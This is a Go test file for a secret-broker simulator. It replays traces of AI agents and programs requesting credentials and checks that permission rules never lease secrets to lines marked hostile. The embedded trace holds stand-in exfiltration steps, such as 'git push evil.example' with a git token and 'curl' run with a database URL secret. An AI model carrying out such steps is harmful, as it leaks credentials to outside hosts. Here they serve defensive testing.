//go:build unix

package main

import (
	"bytes"
	"context"
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
)

// short is a trace in which every rule counts once.
const short = `{"title":"short","first":4,"later":2,"actors":[{"name":"me","kind":"person","terminal":"mine"},{"name":"A","kind":"agent","terminal":"T"},{"name":"A/s","kind":"agent","under":"A"},{"name":"A/p","kind":"program","under":"A"},{"name":"B","kind":"agent","terminal":"T"},{"name":"post","kind":"program","under":"me"}],"tasks":[{"name":"t","argv":["./t.sh"],"args":"any","refs":["op://dev/db/url"]},{"name":"push","argv":["git","push","origin"],"refs":["op://dev/git/token"]}]}
{"at":"1s","who":"A","do":"list"}
{"at":"1.2s","who":"A","do":"ask","dir":"/w"}
{"at":"2s","who":"A","do":"run","argv":["./t.sh"],"refs":["op://dev/db/url"],"dir":"/w"}
{"at":"3s","who":"A/s","do":"run","argv":["./t.sh"],"refs":["op://dev/db/url"],"dir":"/w"}
{"at":"4s","who":"A","do":"run","argv":["./t.sh"],"refs":["op://dev/db/url"],"dir":"/w","mark":"poisoned"}
{"at":"10s","who":"A","do":"run","argv":["./t.sh"],"refs":["op://dev/db/url"],"dir":"/w","text":9,"mark":"hostile"}
{"at":"20s","who":"B","do":"run","argv":["./t.sh"],"refs":["op://dev/db/url"],"dir":"/w","mark":"hostile"}
{"at":"30s","who":"A","do":"run","argv":["./t.sh","evil.example"],"refs":["op://dev/db/url"],"dir":"/w","mark":"hostile","tell":"evil.example"}
{"at":"40s","who":"A/p","do":"run","argv":["curl"],"refs":["op://dev/db/url"],"dir":"/w","mark":"hostile","tell":"curl"}
{"at":"50s","who":"A","do":"read","refs":["op://dev/db/url"],"mark":"hostile"}
{"at":"55s","who":"A","do":"run","argv":["./t.sh"],"refs":["op://prod/db/url"],"dir":"/w"}
{"at":"57s","who":"A","do":"run","argv":["./t.sh"],"refs":["op://prod/db/url"],"dir":"/w"}
{"at":"58s","who":"A","do":"run","argv":["git","push","-u","origin"],"refs":["op://dev/git/token"],"dir":"/w","task":"push"}
{"at":"59s","who":"A","do":"run","argv":["git","push","evil.example"],"refs":["op://dev/git/token"],"dir":"/w","mark":"hostile"}
{"at":"1m","who":"me","do":"read","refs":["op://dev/db/url"]}
{"at":"2m","who":"me","do":"read","refs":["op://dev/db/url"]}
{"at":"2m1s","who":"post","do":"read","refs":["op://dev/db/url"],"mark":"hostile"}
{"at":"2m2s","who":"post","do":"run","argv":["curl"],"refs":["op://dev/db/url"],"dir":"/w","mark":"hostile"}
{"at":"2m3s","who":"A","do":"run","argv":["./t.sh"],"refs":["op://dev/db/url"],"dir":"/w"}
{"at":"3m","who":"me","do":"bind","refs":["op://dev/db/url"]}
{"at":"3m1s","who":"A","do":"run","argv":["./t.sh"],"refs":["op://dev/db/url"],"dir":"/w"}
{"at":"4m","who":"me","do":"put","refs":["op://dev/db/url"]}
{"at":"4m1s","who":"A","do":"run","argv":["./t.sh"],"refs":["op://dev/db/url"],"dir":"/w"}
{"at":"13m","who":"me","do":"read","refs":["op://dev/db/url"]}
{"at":"34m2s","who":"A","do":"run","argv":["./t.sh"],"refs":["op://dev/db/url"],"dir":"/w"}
{"at":"1h4m59.6s","who":"A","do":"run","argv":["./u.sh"],"refs":["op://dev/db/url"],"dir":"/w"}
{"at":"1h5m","who":"A","do":"run","argv":["./w.sh"],"refs":["op://dev/db/url"],"dir":"/w"}
{"at":"1h5m0.05s","who":"A","do":"run","argv":["./u.sh"],"refs":["op://prod/db/url"],"dir":"/w"}
{"at":"1h5m0.1s","who":"A","do":"run","argv":["./t.sh"],"refs":["op://dev/db/url"],"dir":"/w"}
{"at":"1h5m0.1s","who":"A","do":"run","argv":["./v.sh"],"refs":["op://dev/db/url"],"dir":"/w","mark":"hostile","tell":"v.sh"}
`

func shortTrace(t *testing.T) *trace {
	t.Helper()
	tr, err := parse([]byte(short))
	if err != nil {
		t.Fatal(err)
	}
	return &tr
}

func replayed(t *testing.T, tr *trace, s setup) []done {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), limit)
	defer cancel()
	got, err := replay(ctx, tr, s)
	if err != nil {
		t.Fatal(err)
	}
	return got
}

// Each line comes to what its rule says, the same every time, and the model that
// is varied agrees with the broker. Where the project asks once, two tasks are one
// gesture; what differs from a task is asked about, but for arguments that it leaves
// free; and what may be leased of one moment is one gesture, what may not another, and a
// no its own.
func TestReplay(t *testing.T) {
	asks, free, leased, denied, refused := done{Asked: true, Released: true}, done{Released: true}, done{Released: true, Leased: true},
		done{Asked: true, Denied: true}, done{Refused: true}
	beside, freely := done{Beside: true, Released: true}, done{Released: true, Leased: true, Free: true}
	later := func(d done) done { d.Hour = 1; return d }
	tr := shortTrace(t)
	for _, c := range []struct {
		setup
		want []done
	}{
		{before(), []done{{}, {}, asks, leased, leased, asks, asks, denied, denied, refused, asks, asks, asks, asks, asks, leased, asks, free, leased,
			{Asked: true}, asks, {}, asks, asks, asks, later(asks), later(asks), later(asks), later(asks), later(denied)}},
		{asked(), []done{{}, {Asked: true, Given: 2}, leased, leased, leased, asks, asks, freely, denied, refused, asks, asks, leased, asks, asks, leased, asks, free, leased,
			{Asked: true}, asks, {}, asks, asks, leased, later(asks), later(beside), later(asks), leased, later(denied)}},
	} {
		got := replayed(t, tr, c.setup)
		if diff := cmp.Diff(c.want, got); diff != "" {
			t.Errorf("%s: the broker: %s", c.name, diff)
		}
		if err := sound(tr, c.setup, got); err != nil {
			t.Errorf("%s: %v", c.name, err)
		}
	}
	if diff := cmp.Diff(simulate(tr, ours(asked())), replayed(t, tr, asked())); diff != "" {
		t.Errorf("again: %s", diff)
	}
}

// No lease serves a hostile line, and the model agrees, over all traces.
func TestTraces(t *testing.T) {
	if os.Getenv("PROMPTS") == "" {
		t.Skip("SKIP: whole traces take minutes; PROMPTS=1 replays them here, and `make prompts` checks the same before it prints")
	}
	all, err := traces()
	if err != nil {
		t.Fatal(err)
	}
	got, err := replays(context.Background(), all)
	if err != nil {
		t.Fatal(err)
	}
	for i := range all {
		c, err := compare(&all[i], got[i])
		if err != nil {
			t.Fatalf("%s: %v", all[i].Title, err)
		}
		was, now := c.replays[0].tally, c.ours()
		if now.hostile-now.free > was.hostile || slices.Compare(now.gestures, was.gestures) >= 0 {
			t.Errorf("%s: it was %+v and is %+v", all[i].Title, was, now)
		}
	}
}

// A replay in which a lease served a hostile line, or in which the broker did
// something else than the model, is not printed.
func TestSound(t *testing.T) {
	tr := shortTrace(t)
	for _, s := range setups() {
		good := simulate(tr, ours(s))
		if err := sound(tr, s, good); err != nil {
			t.Fatal(err)
		}
		other := slices.Clone(good)
		other[2].Hour = 7
		if sound(tr, s, other) == nil {
			t.Error("another outcome was taken")
		}
		tr.lines[3].Mark = markHostile
		if sound(tr, s, good) == nil {
			t.Error("a leased hostile line was taken")
		}
		tr.lines[3].Mark = ""
	}
}

// What the ledger says is held against what was seen: a gesture, a release or a
// lease more or less is a defect.
func TestRead(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), limit)
	defer cancel()
	tr := shortTrace(t)
	tr.lines = tr.lines[:5]
	p, events, err := played(ctx, t.TempDir(), tr, asked())
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		name string
		lie  func(*play)
	}{
		{"", func(*play) {}},
		{"a gesture that the ledger has not", func(p *play) { p.gestures++ }},
		{"a lease less", func(p *play) { p.saw[1].Given-- }},
		{"a line beside another", func(p *play) { p.saw[1].Beside = true }},
		{"a release that the ledger has not", func(p *play) { p.saw[0].Released = true }},
		{"free arguments", func(p *play) { p.saw[2].Free = true }},
		{"a request that nobody made", func(p *play) { p.requests = nil }},
	} {
		q := *p
		q.saw = slices.Clone(p.saw)
		c.lie(&q)
		if _, err := q.read(events); (err == nil) != (c.name == "") {
			t.Errorf("%q: %v", c.name, err)
		}
	}
}

func TestModels(t *testing.T) {
	tr := shortTrace(t)
	for _, c := range []struct {
		rules
		want tally
	}{
		{exactArgv(), tally{gestures: []int{22, 5}, alarms: []int{9, 1}, releases: 23, fooled: 6, refused: 3}},
		{openTerminal(), tally{gestures: []int{4, 1}, alarms: []int{0, 0}, releases: 26, unseen: 22, hostile: 9, poisoned: 1}},
	} {
		got := count(tr, simulate(tr, c.rules))
		if diff := cmp.Diff(c.want, got, cmp.AllowUnexported(tally{})); diff != "" {
			t.Errorf("%s: %s", c.name, diff)
		}
	}
	// Every trace has what makes the comparison worth something.
	all, err := traces()
	if err != nil {
		t.Fatal(err)
	}
	for _, x := range all {
		open, exact := count(&x, simulate(&x, openTerminal())), count(&x, simulate(&x, exactArgv()))
		if open.hostile == 0 || exact.unseen != 0 {
			t.Errorf("%s: open terminal %+v, exact argv %+v", x.Title, open, exact)
		}
		for _, r := range whatIf() {
			c := count(&x, simulate(&x, r))
			if c.unseen+len(x.lines) < c.releases || len(c.gestures) != len(open.gestures) {
				t.Errorf("%s: %s: %+v", x.Title, r.name, c)
			}
		}
	}
}

// One answer for what a session asks within a moment is one gesture, and all of it
// was seen.
func TestTogether(t *testing.T) {
	tr := shortTrace(t)
	for i := range tr.lines {
		tr.lines[i].at = time.Minute
	}
	r := exactArgv()
	r.together = time.Second
	if got := count(tr, simulate(tr, r)); got.gestures[0] != 3+3 || got.unseen != 0 { // A, B and the person, and three denials
		t.Errorf("%+v", got)
	}
}

func TestWhy(t *testing.T) {
	tr := shortTrace(t)
	got := why(tr, simulate(tr, ours(before())), false)
	if diff := cmp.Diff(causes{fresh: 4, over: 4, hostile: 7, other: 6}, got, cmp.AllowUnexported(causes{})); diff != "" {
		t.Error(diff)
	}
}

// What is far to the right is not read.
func TestReads(t *testing.T) {
	m := &model{t: shortTrace(t)}
	l := line{Who: "A", Do: doRun, Argv: []string{"./t.sh", "evil.example"}, Dir: "/w", Refs: []string{"op://dev/db/url"}}
	if !reads(m.request(l), "evil.example") || reads(m.request(l), "") {
		t.Error("what stands in front")
	}
	l.Argv = append(append(l.Argv[:1:1], strings.Fields(strings.Repeat("x ", wordsRead))...), "evil.example")
	if reads(m.request(l), "evil.example") {
		t.Error("what stands far to the right")
	}
}

func TestArguments(t *testing.T) {
	for _, args := range [][]string{{"--nothing"}, {"--trace", "99"}, {"--trace", "-1"}} {
		if err := run(context.Background(), args, new(bytes.Buffer)); err == nil {
			t.Errorf("%v was taken", args)
		}
	}
}

func FuzzParse(f *testing.F) {
	f.Add([]byte(short))
	head := short[:strings.Index(short, "\n")+1]
	for _, bad := range []string{
		"", "{}", head, head + "{}\n",
		head + `{"at":"1s","who":"nobody","do":"list"}` + "\n",
		head + `{"at":"x","who":"A","do":"list"}` + "\n",
		head + `{"at":"2s","who":"A","do":"list"}` + "\n" + `{"at":"1s","who":"A","do":"list"}` + "\n",
		head + `{"at":"1s","who":"A","do":"list","tell":"x"}` + "\n",
		head + `{"at":"1s","who":"A","do":"list","mark":"x"}` + "\n",
		head + `{"at":"1s","who":"A","do":"run","refs":["op://dev/db/url"],"dir":"/w"}` + "\n",
		head + `{"at":"1s","who":"A","do":"read","refs":["dev/db/url"]}` + "\n",
		head + `{"at":"1s","who":"A","do":"list","more":1}` + "\n",
		head + `{"at":"1s","who":"A","do":"ask"}` + "\n",
		head + `{"at":"1s","who":"me","do":"ask","dir":"/w"}` + "\n",
		head + `{"at":"1s","who":"A","do":"run","argv":["./t.sh"],"refs":["op://dev/db/url"],"dir":"/w","task":"push"}` + "\n",
		`{"title":"x","actors":[{"name":"a","kind":"agent","terminal":"T"}],"tasks":[{"name":"t","argv":["t"]}]}` + "\n",
		`{"title":"x","actors":[{"name":"a","kind":"agent","terminal":"T"}],"tasks":[{"name":"t","argv":["t"],"args":"some","refs":["op://dev/db/url"]}]}` + "\n",
		`{"title":"x","actors":[{"name":"a","kind":"agent","under":"a"}]}` + "\n",
		`{"title":"x","actors":[{"name":"a","kind":"person","terminal":"T"}]}` + "\n",
		`{"title":"x","actors":[{"name":"a","kind":"agent","terminal":"T"},{"name":"a","kind":"agent","terminal":"T"}]}` + "\n",
	} {
		f.Add([]byte(bad))
		if _, err := parse([]byte(bad)); err == nil {
			f.Errorf("taken: %q", bad)
		}
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		tr, err := parse(b)
		if err != nil {
			return
		}
		for _, r := range append(whatIf(), exactArgv(), openTerminal(), ours(before()), ours(asked())) {
			if got := simulate(&tr, r); len(got) != len(tr.lines) {
				t.Errorf("%d lines came to %d", len(tr.lines), len(got))
			}
		}
	})
}
